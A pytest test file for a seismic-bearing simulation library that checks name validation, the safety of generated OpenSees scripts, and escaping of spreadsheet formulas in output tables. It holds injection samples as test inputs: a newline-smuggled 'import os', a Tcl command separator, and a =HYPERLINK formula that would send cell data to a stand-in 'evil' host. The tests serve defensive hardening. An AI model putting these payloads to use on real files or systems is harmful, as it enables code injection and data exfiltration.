"""Any valid name works everywhere; a name that is no printable line is refused."""

import ast
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import thermobearing as tb
from thermobearing.bearing.library import changed_bearing
from thermobearing.bearing.model import Bearing
from thermobearing.border.text_file import file_names
from thermobearing.cyclic.case import Rig
from thermobearing.cyclic.result import Result
from thermobearing.design.bounds import opensees_text
from thermobearing.results.writing import json_line, without_formulas

SOURCE = Path(tb.__file__).parent / "data" / "bearings" / "shen-hdr-specimen.toml"
STRANGE = "HDR 1/6 \"x\" 免震, 'y' {z} $\\frac{1$ <b> " + "é" * 100


def renamed(path: Path, name: str) -> Path:
    lines = SOURCE.read_text(encoding="utf-8").splitlines()
    at = next(k for k, line in enumerate(lines) if line.startswith("name = "))
    lines[at] = "name = '''" + name + "'''" if "\n" in name else f"name = '''{name}'''"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def specimen(tmp_path_factory: pytest.TempPathFactory) -> Bearing:
    return tb.load_bearing(renamed(tmp_path_factory.mktemp("named") / "s.toml", STRANGE))


@pytest.fixture(scope="module")
def cyclic(specimen: Bearing) -> Result:
    test = tb.cyclic_test(strain=[0.5], cycles=1, rest=None)
    return tb.run(specimen, test, ambient=[0.0, 23.0])


@pytest.mark.parametrize(
    "name",
    ["x\nimport os", "x\r", "x\x1b[2J", "x\u2028y", "\ud800x", "x" * 201, ""],
    ids=["two lines", "return", "escape", "line separator", "surrogate", "long", "empty"],
)
def test_a_name_is_one_printable_line(name: str) -> None:
    bearing = tb.load_bearing(SOURCE)
    with pytest.raises(tb.InputError, match="name"):
        changed_bearing(bearing, name=name)


@pytest.mark.parametrize("what", ["structure", "motion", "test", "rig"])
def test_names_of_other_things_are_lines(what: str) -> None:
    from thermobearing.earthquake.motions import Motion

    name = "x\nimport os"
    make: dict[str, Any] = {
        "structure": lambda: (
            tb.load_structure("pier-p1")
            .model_copy()
            .model_validate({**tb.load_structure("pier-p1").model_dump(), "name": name})
        ),
        "motion": lambda: Motion(name="jra-ii-i-1", label=name),
        "test": lambda: tb.CyclicTest(name=name, steps=[{"step": "rest", "duration": 1.0}]),
        "rig": lambda: Rig(name=name),
    }
    with pytest.raises(ValueError, match="one line"):
        make[what]()


def test_generated_scripts_hold_no_line_of_a_name() -> None:
    row = {"bound": "lower", "strain": 1.75, "basis": "first", "ambient_degC": 23.0}
    row |= {"Q_d_kN": 100.0, "K_1_kN_mm": 10.0, "K_2_kN_mm": 2.0, "Q_y_kN": 125.0}
    models = pd.DataFrame([row])
    for language in ("python", "tcl"):
        text = opensees_text(models, "x\nimport os\r\x0b; puts \\", language)
        assert text.splitlines()[0].startswith("# x import os")
        assert text.splitlines()[1:] == opensees_text(models, "x", language).splitlines()[1:]
    tree = ast.parse(opensees_text(models, "x\nimport os", "python"))
    imported = [node.names[0].name for node in ast.walk(tree) if isinstance(node, ast.Import)]
    assert imported == ["openseespy.opensees"]


def test_results_of_any_name_are_written_and_read(
    specimen: Bearing, cyclic: Result, tmp_path: Path
) -> None:
    cyclic.save(tmp_path / "cyclic", figures=False)
    assert tb.load_result(tmp_path / "cyclic").dataset.attrs["title"]
    result = tb.bridge(
        structure="pier-p1", bearing=specimen, motion="jra-ii-i-1", ambient=0.0, duration=0.5
    )
    result.save(tmp_path / "bridge", figures=False)
    again = tb.load_result(tmp_path / "bridge")
    assert again.dataset.attrs.keys() == result.dataset.attrs.keys()
    assert json_line(again.summary()) == json_line(result.summary())
    again.save(tmp_path / "again", figures=False)
    assert tb.load_result(tmp_path / "again").summary()["initial_periods_s"].keys() == {STRANGE}


@pytest.mark.thorough
def test_figures_of_any_name_are_drawn(cyclic: Result, tmp_path: Path) -> None:
    cyclic.save(tmp_path / "cyclic")
    assert (tmp_path / "cyclic" / "figures" / "loops.png").exists()


@pytest.mark.thorough
def test_results_are_saved_from_threads(cyclic: Result, tmp_path: Path) -> None:
    def save(k: int) -> str:
        path = cyclic.save(tmp_path / f"o{k}", figures=False)
        return tb.load_result(path).outcome

    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(save, range(4))) == ["completed"] * 4


def test_no_text_of_a_table_is_a_formula() -> None:
    texts = ['=HYPERLINK("http:evil"&A1,"ok")', "@SUM(1)", "+1+1", "-2+3", "\t=1", "-", "--"]
    texts += ["-20", "-20 degC", "+1.5e-3 kN", "-20 %", "plain", "a=b"]
    table = pd.DataFrame({"=name": texts, "number": range(len(texts)), "none": None})
    safe = without_formulas(table)
    assert list(safe.columns) == ["'=name", "number", "none"]
    assert safe["'=name"].tolist()[:5] == [f"'{text}" for text in texts[:5]]
    assert safe["'=name"].tolist()[5:] == texts[5:]
    assert table.columns[0] == "=name"


def test_a_formula_in_a_name_is_text_in_the_table(tmp_path: Path) -> None:
    bearing = changed_bearing(tb.load_bearing(SOURCE), name='=HYPERLINK("http:evil","ok")')
    result = tb.bridge(
        structure="pier-p1", bearing=bearing, motion="jra-ii-i-1", ambient=0.0, duration=0.2
    )
    result.save(tmp_path / "out", figures=False)
    assert "\n=" not in (tmp_path / "out" / "table.csv").read_text(encoding="utf-8")
    assert ",=" not in (tmp_path / "out" / "table.csv").read_text(encoding="utf-8")
    table = pd.read_csv(tmp_path / "out" / "table.csv")
    assert table["bearing"].tolist() == ['\'=HYPERLINK("http:evil","ok")']


def test_files_of_things_have_names_that_any_system_takes() -> None:
    names = file_names(["HDR 1/6", "HDR 1:6", "..", "免震", "", "a" * 300])
    assert len(set(names)) == 6
    assert not any(set("/\\: ") & set(name) for name in names)
    assert max(map(len, names)) <= 82
